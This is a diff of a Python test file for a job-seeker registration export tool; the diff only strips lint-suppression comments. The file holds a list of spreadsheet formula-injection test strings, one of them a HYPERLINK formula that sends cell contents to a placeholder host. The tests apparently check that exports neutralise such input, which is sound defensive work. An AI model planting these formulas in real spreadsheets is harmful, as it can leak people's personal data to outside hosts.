@@ -46,7 +46,7 @@ EN_HEADERS = ["Ticket code", "Name", "ID number", "Mobile number", "Gender", "Ag
 
 
 def _register(engine, vault, county, n: int = 0, *, source: Source | None = None, now: datetime = NOON,
-              sub: str | None = None, **overrides) -> int:  # noqa: ANN001
+              sub: str | None = None, **overrides) -> int:
     fields = dict(id_number=person_id(n), phone=f"139{n:08d}")
     fields.update(overrides)
     draft = validate_registration(form(**fields), county=county, today=TODAY)
@@ -54,23 +54,23 @@ def _register(engine, vault, county, n: int = 0, *, source: Source | None = None
                            submission_id=sub or f"s{n}-{now.isoformat()}", now=now).seeker_id
 
 
-def _fair_source(engine, code: str = "SPRING26", name: str = "2026年春风行动招聘会") -> Source:  # noqa: ANN001
+def _fair_source(engine, code: str = "SPRING26", name: str = "2026年春风行动招聘会") -> Source:
     fair = create_fair(engine, name=name, code=code, township="城关镇")
     return Source(kind="fair", fair_id=fair.id, name=fair.name, code=fair.code)
 
 
-def _site_source(engine, code: str = "AZ-DAHE", name: str = "大河乡和谐社区安置点") -> Source:  # noqa: ANN001
+def _site_source(engine, code: str = "AZ-DAHE", name: str = "大河乡和谐社区安置点") -> Source:
     site = create_site(engine, name=name, code=code, township="大河乡")
     return Source(kind="site", site_id=site.id, name=site.name, code=site.code)
 
 
-def _set(engine, seeker_id: int, **values) -> None:  # noqa: ANN001
+def _set(engine, seeker_id: int, **values) -> None:
     """Write values no form would accept, as a malicious import or a bug could."""
     with unit_of_work(engine) as s:
         s.execute(update(Seeker).where(Seeker.id == seeker_id).values(**values))
 
 
-def _csv(engine, county, flt: ExportFilter | None = None, language: str = "zh_CN", **kw) -> tuple[bytes, list]:  # noqa: ANN001
+def _csv(engine, county, flt: ExportFilter | None = None, language: str = "zh_CN", **kw) -> tuple[bytes, list]:
     out = io.BytesIO()
     result = export_registrations(engine, out, flt=flt or ExportFilter(), fmt="csv", language=language,
                                   county=county, today=TODAY, **kw)
@@ -90,7 +90,7 @@ def _ooxml(text: str) -> str:
     return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)
 
 
-def _xlsx(engine, county, flt: ExportFilter | None = None, language: str = "zh_CN") -> tuple[bytes, list]:  # noqa: ANN001
+def _xlsx(engine, county, flt: ExportFilter | None = None, language: str = "zh_CN") -> tuple[bytes, list]:
     out = io.BytesIO()
     export_registrations(engine, out, flt=flt or ExportFilter(), fmt="xlsx", language=language, county=county,
                          today=TODAY)
@@ -102,7 +102,7 @@ def _unzipped(data: bytes) -> bytes:
         return b"".join(z.read(name) for name in z.namelist())
 
 
-def _audit(engine) -> list[AuditEvent]:  # noqa: ANN001
+def _audit(engine) -> list[AuditEvent]:
     with unit_of_work(engine, write=False) as s:
         return list(s.exec(select(AuditEvent)))
 
@@ -237,7 +237,7 @@ def test_full_id_export_needs_an_actor(engine, vault, county) -> None:
 # --- filters ------------------------------------------------------------------------------------
 
 
-def _ids(engine, county, flt: ExportFilter) -> set[str]:  # noqa: ANN001
+def _ids(engine, county, flt: ExportFilter) -> set[str]:
     _, rows = _csv(engine, county, flt)
     assert count_registrations(engine, flt) == len(rows) - 1  # the preview matches the file
     return {r[1] for r in rows[1:]}
@@ -325,7 +325,7 @@ MALICIOUS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", "\x00=1",
              '=HYPERLINK("http://x.invalid/?"&A2,"Click")', "@SUM(1)"]
 
 
-def _malicious_seekers(engine, vault, county) -> list[str]:  # noqa: ANN001
+def _malicious_seekers(engine, vault, county) -> list[str]:
     """Seekers whose name and village are the texts; PostgreSQL cannot store NUL, SQLite can."""
     texts = [t for t in MALICIOUS if engine.dialect.name == "sqlite" or "\x00" not in t]
     for n, text in enumerate(texts):
